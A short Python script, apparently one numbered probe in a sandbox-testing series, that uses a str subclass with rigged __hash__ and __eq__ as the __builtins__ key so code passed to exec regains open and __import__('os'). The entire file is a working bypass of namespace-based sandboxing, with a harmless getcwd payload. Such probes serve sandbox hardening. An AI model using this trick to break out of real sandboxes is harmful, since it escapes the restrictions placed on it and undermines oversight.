"""H1, A15: a str subclass as dictionary key answers each look-up of __builtins__ by its own __eq__."""

loot = []


class Key(str):
    def __hash__(self):
        return hash("__builtins__")

    def __eq__(self, other):
        Key.count += 1
        return Key.count <= Key.limit


for Key.limit in range(6):
    Key.count = 0
    space = {Key("__builtins__"): __builtins__}
    space["loot"] = loot
    try:
        exec("loot.append(open); loot.append(__import__('os').getcwd)", space)
    except BaseException as error:
        print(Key.limit, repr(error))
print(loot)
print(loot[1]())
